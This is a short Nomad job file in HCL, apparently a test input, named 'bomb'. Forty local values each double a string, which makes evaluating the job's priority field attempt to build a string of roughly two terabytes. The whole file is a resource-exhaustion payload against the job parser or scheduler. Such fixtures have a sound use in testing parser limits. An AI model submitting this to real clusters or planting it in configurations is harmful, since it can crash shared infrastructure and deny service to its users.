locals {
  t0 = "ab"
  t1 = "${local.t0}${local.t0}"
  t2 = "${local.t1}${local.t1}"
  t3 = "${local.t2}${local.t2}"
  t4 = "${local.t3}${local.t3}"
  t5 = "${local.t4}${local.t4}"
  t6 = "${local.t5}${local.t5}"
  t7 = "${local.t6}${local.t6}"
  t8 = "${local.t7}${local.t7}"
  t9 = "${local.t8}${local.t8}"
  t10 = "${local.t9}${local.t9}"
  t11 = "${local.t10}${local.t10}"
  t12 = "${local.t11}${local.t11}"
  t13 = "${local.t12}${local.t12}"
  t14 = "${local.t13}${local.t13}"
  t15 = "${local.t14}${local.t14}"
  t16 = "${local.t15}${local.t15}"
  t17 = "${local.t16}${local.t16}"
  t18 = "${local.t17}${local.t17}"
  t19 = "${local.t18}${local.t18}"
  t20 = "${local.t19}${local.t19}"
  t21 = "${local.t20}${local.t20}"
  t22 = "${local.t21}${local.t21}"
  t23 = "${local.t22}${local.t22}"
  t24 = "${local.t23}${local.t23}"
  t25 = "${local.t24}${local.t24}"
  t26 = "${local.t25}${local.t25}"
  t27 = "${local.t26}${local.t26}"
  t28 = "${local.t27}${local.t27}"
  t29 = "${local.t28}${local.t28}"
  t30 = "${local.t29}${local.t29}"
  t31 = "${local.t30}${local.t30}"
  t32 = "${local.t31}${local.t31}"
  t33 = "${local.t32}${local.t32}"
  t34 = "${local.t33}${local.t33}"
  t35 = "${local.t34}${local.t34}"
  t36 = "${local.t35}${local.t35}"
  t37 = "${local.t36}${local.t36}"
  t38 = "${local.t37}${local.t37}"
  t39 = "${local.t38}${local.t38}"
  t40 = "${local.t39}${local.t39}"
}

job "bomb" {
  datacenters = ["dc1"]
  priority    = length(local.t40) > 0 ? 50 : 50
  group "g" {
    count = 1
    task "t" {
      driver = "docker"
      resources {
        cpu    = 100
        memory = 64
      }
    }
  }
}
